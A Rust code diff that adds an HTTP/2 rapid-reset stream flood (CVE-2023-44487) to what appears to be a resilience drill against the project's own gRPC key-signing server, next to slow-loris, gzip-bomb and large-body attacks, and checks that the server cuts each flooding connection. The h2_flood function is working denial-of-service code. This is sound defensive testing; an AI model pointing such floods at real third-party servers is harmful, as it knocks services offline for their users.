@@ -204,7 +204,7 @@ pub(super) async fn hostile_clients(a: &DrillArgs) -> Result<Verdict, String> {
     );
     v.fact(
         "attacks",
-        "50 slow-loris connections (a header byte every 300 ms), gzip bombs (64 MiB of zeros in ~64 KiB), 2 MiB bodies, on the HTTP port, all through the phase",
+        "50 slow-loris connections (a header byte every 300 ms), gzip bombs (64 MiB of zeros in ~64 KiB), 2 MiB bodies, on the HTTP port; an HTTP/2 rapid-reset stream flood on the gRPC port; all through the phase",
     );
     let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
     // slow-loris: how long until the server cuts each connection
@@ -274,6 +274,14 @@ pub(super) async fn hostile_clients(a: &DrillArgs) -> Result<Verdict, String> {
             answers
         })
     };
+    let flood = {
+        let (grpc, stop, token) = (
+            ep.grpc.trim_start_matches("http://").to_string(),
+            stop.clone(),
+            ep.token.clone(),
+        );
+        tokio::spawn(async move { h2_flood(&grpc, &token, &stop).await })
+    };
     v.phases.push(
         phase(
             "during",
@@ -287,6 +295,30 @@ pub(super) async fn hostile_clients(a: &DrillArgs) -> Result<Verdict, String> {
     );
     stop.store(true, std::sync::atomic::Ordering::Relaxed);
     let answers = abuse.await.map_err(|e| e.to_string())?;
+    let flood = flood.await.map_err(|e| e.to_string())?;
+    v.fact(
+        "HTTP/2 stream flood (rapid reset on the gRPC port)",
+        format!(
+            "{} connections, {} streams opened and cancelled; ended by the server: {} (GOAWAY ENHANCE_YOUR_CALM {}, socket closed {}), still open at the end: {}; most streams on one connection: {}",
+            flood.connections,
+            flood.streams,
+            flood.calm + flood.closed,
+            flood.calm,
+            flood.closed,
+            flood.open_at_end,
+            flood.most_streams
+        ),
+    );
+    v.check(
+        "the server ends every flooding connection (at most one still open when the phase ends)",
+        flood.connections > 1 && flood.open_at_end <= 1 && flood.other.is_empty(),
+    );
+    if !flood.other.is_empty() {
+        v.fact(
+            "flood connections ended otherwise",
+            format!("{:?}", flood.other),
+        );
+    }
     let mut cut = Vec::new();
     for l in loris {
         if let Ok(Some(d)) = l.await {
@@ -334,6 +366,107 @@ pub(super) async fn hostile_clients(a: &DrillArgs) -> Result<Verdict, String> {
     v.check("the server still serves (no key lost)", k == 1);
     stop_and_verify(s, &data, &mut v);
     Ok(v)
+}
+
+/// What the stream flood saw.
+#[derive(Default)]
+struct Flood {
+    connections: u64,
+    streams: u64,
+    /// Connections the server ended with GOAWAY ENHANCE_YOUR_CALM.
+    calm: u64,
+    /// Connections the server closed while the client was still writing
+    /// (the GOAWAY could not be read before the socket went).
+    closed: u64,
+    /// Connections ended in any other way.
+    other: BTreeMap<String, u64>,
+    open_at_end: u64,
+    most_streams: u64,
+}
+
+/// HTTP/2 rapid reset (CVE-2023-44487) on `addr` until `stop`: on each
+/// connection open streams and cancel them at once, as fast as the client
+/// can, until the server ends the connection; then connect again.
+async fn h2_flood(addr: &str, token: &str, stop: &std::sync::atomic::AtomicBool) -> Flood {
+    use std::sync::atomic::Ordering::Relaxed;
+    let mut f = Flood::default();
+    while !stop.load(Relaxed) {
+        let Ok(sock) = tokio::net::TcpStream::connect(addr).await else {
+            tokio::time::sleep(Duration::from_millis(50)).await;
+            continue;
+        };
+        let Ok((send, conn)) = h2::client::handshake(sock).await else {
+            continue;
+        };
+        f.connections += 1;
+        let conn = tokio::spawn(conn);
+        let mut n = 0u64;
+        let mut refused = false;
+        if let Ok(mut send) = send.ready().await {
+            while !stop.load(Relaxed) {
+                if n == 100_000 {
+                    break;
+                }
+                let Ok(head) = http::Request::builder()
+                    .method("POST")
+                    .uri("http://localhost/ron.kms.v1.Kms/Sign")
+                    .header("content-type", "application/grpc")
+                    .header("te", "trailers")
+                    .header("authorization", format!("Bearer {token}"))
+                    .body(())
+                else {
+                    break;
+                };
+                match send.send_request(head, false) {
+                    Ok((_resp, mut stream)) => stream.send_reset(h2::Reason::CANCEL),
+                    Err(_) => {
+                        refused = true;
+                        break;
+                    }
+                }
+                n += 1;
+                if n.is_multiple_of(64) {
+                    tokio::task::yield_now().await;
+                    match send.clone().ready().await {
+                        Ok(s2) => send = s2,
+                        Err(_) => {
+                            refused = true;
+                            break;
+                        }
+                    }
+                }
+            }
+        } else {
+            refused = true;
+        }
+        f.streams += n;
+        f.most_streams = f.most_streams.max(n);
+        if !refused {
+            if stop.load(Relaxed) {
+                // cut short by the end of the phase, not by the server
+                f.open_at_end += 1;
+            } else {
+                *f.other
+                    .entry("100,000 streams without being cut off".into())
+                    .or_insert(0) += 1;
+            }
+            conn.abort();
+            continue;
+        }
+        match tokio::time::timeout(Duration::from_secs(5), conn).await {
+            Ok(Ok(Err(e))) if e.reason() == Some(h2::Reason::ENHANCE_YOUR_CALM) => f.calm += 1,
+            Ok(Ok(Err(e))) if e.is_io() => f.closed += 1,
+            Ok(Ok(Err(e))) => *f.other.entry(e.to_string()).or_insert(0) += 1,
+            Ok(Ok(Ok(()))) => *f.other.entry("ended cleanly".into()).or_insert(0) += 1,
+            Ok(Err(e)) => *f.other.entry(e.to_string()).or_insert(0) += 1,
+            Err(_) => {
+                *f.other
+                    .entry("refused, but not ended within 5 s".into())
+                    .or_insert(0) += 1
+            }
+        }
+    }
+    f
 }
 
 fn rss_mib(pid: u32) -> f64 {
